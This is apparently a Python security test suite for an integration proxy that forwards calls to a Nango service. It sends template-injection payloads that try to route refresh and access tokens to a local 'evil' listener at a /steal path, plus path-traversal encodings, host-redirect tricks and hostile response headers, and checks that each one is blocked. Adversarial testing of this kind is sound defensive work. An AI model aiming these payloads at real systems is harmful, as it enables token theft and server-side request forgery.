"""Attacks through the provider proxy, with a key that may read tokens."""

import time
import urllib.parse

from common import Listener, connect, control, end, normalised, outcome, send, service

CONNECTION = connect("ada")
BASE = f"/api/v1/connectors/connections/{CONNECTION['id']}/proxy/"
ADA = service("ada")


def call(path):
    """Sends a proxied call, after a pause if the fake Nango's rate limit is exhausted."""
    while True:
        answer = send("GET", BASE + path, ADA)
        problem = answer.json
        if not (isinstance(problem, dict) and problem.get("code") == "nango_rate_limited"):
            return answer
        time.sleep(problem["retry_after"])


def reached_nango(start):
    """Returns the proxied calls that Nango has received since, without Patchbay's own calls."""
    calls = control("requests", method="GET")[start:]
    return [one for one in calls if one["path"].startswith("/proxy")]


def template_steers_nango_to_another_host():
    evil = Listener()
    attack = "u=${nope}||http://%s/steal?rt=${refresh_token}&at=${access_token}" % evil.address
    encoded = urllib.parse.quote(attack, safe="=")
    pages = [
        call("inspect?" + attack),
        call("inspect?" + encoded),
        call("inspect?" + encoded.replace("%", "%25")),
        call("inspect/${nope}||http://%s/steal?rt=${refresh_token}" % evil.address),
        call("inspect/" + urllib.parse.quote(attack, safe="")),
        call("inspect/" + urllib.parse.quote(urllib.parse.quote(attack, safe=""), safe="")),
    ]
    leaked = any(b"evil" == page.body.strip() or b"sandbox_refresh_" in page.body for page in pages)
    held = not evil.received and not leaked
    statuses = ", ".join(str(page.status) for page in pages)
    outcome("`${…}` and `||` send the refresh token to another host", held, statuses)


def credentials_are_evaluated_into_the_request():
    answer = call("inspect?q=${access_token}&r=%24%7Brefresh_token%7D")
    query = (answer.json or {}).get("query", "")
    held = "sandbox_access_" not in query and "sandbox_refresh_" not in query
    outcome("`${access_token}` is evaluated into the provider's request", held, query)


def path_leaves_the_proxy():
    dots = ["..", "%2e%2e", ".%2e", "%252e%252e", "..;", "..%3bx"]
    slashes = ["/", "%2f", "%252f", "%25252f", "\\", "%5c", "%255c"]
    targets = ["integrations/gmail?include=credentials", "connections", "connections/x?provider_config_key=gmail"]
    start = len(control("requests", method="GET"))
    refused, tried = 0, 0
    for dot in dots:
        for slash in slashes:
            for target in targets:
                for prefix in ("", "a" + slash + dot + slash):
                    tried += 1
                    refused += call(prefix + dot + slash + target).status == 400
    # A reverse proxy in front of Nango might normalize the paths like this.
    paths = [normalised(one["path"]) for one in reached_nango(start)]
    left = [path for path in paths if not path.startswith("/proxy/")]
    outcome("`..%2f` leaves Nango's proxy behind a normalising reverse proxy", not left, f"{refused} of {tried} refused")


def another_host_by_authority():
    evil = Listener()
    for path in ("/%s/x", "%%2f%s/x", "%%2f%%2f%s/x", "@%s/x", "http:%%2f%%2f%s/x", "http:%s/x", "%%5c%%5c%s/x"):
        call(path % evil.address)
    outcome("`//host`, `@` and `http:` lead to another host", not evil.received)


def printable_characters():
    wrong, arrived = [], 0
    for code in range(0x20, 0x7F):
        for form in (chr(code), "%%%02X" % code, "%%25%02X" % code):
            start = len(control("requests", method="GET"))
            call(f"inspect/a{form}b?a=b{form}c")
            calls = reached_nango(start)
            arrived += len(calls)
            if any(set("${}|\\") & set(one["path"] + one["query"]) for one in calls):
                wrong.append(form)
    detail = " ".join(wrong) or f"{arrived} of {3 * (0x7F - 0x20)} reached Nango, encoded"
    outcome("a character that Nango interprets reaches it", not wrong, detail)


def provider_replaces_our_headers():
    hostile = {
        "cache-control": "public, max-age=3600",
        "content-security-policy": "default-src *",
        "x-frame-options": "ALLOWALL",
        "set-cookie": "a=b",
        "access-control-allow-origin": "*",
        "strict-transport-security": "max-age=0",
    }
    lines = "&".join("header=" + urllib.parse.quote(f"{name}: {value}") for name, value in hostile.items())
    for more in ("chunked=1", "status=404", "status=200"):
        headers = call(f"answer?{more}&{lines}").headers
        held = headers["cache-control"] == "private, no-store"
        held &= all(headers.get(name) != value for name, value in hostile.items())
        held &= not any(name.lower().startswith("x-ratelimit-") for name in headers)
        outcome(f"the provider's headers replace ours, {more}", held, headers["cache-control"])


template_steers_nango_to_another_host()
credentials_are_evaluated_into_the_request()
path_leaves_the_proxy()
another_host_by_authority()
printable_characters()
provider_replaces_our_headers()
end()
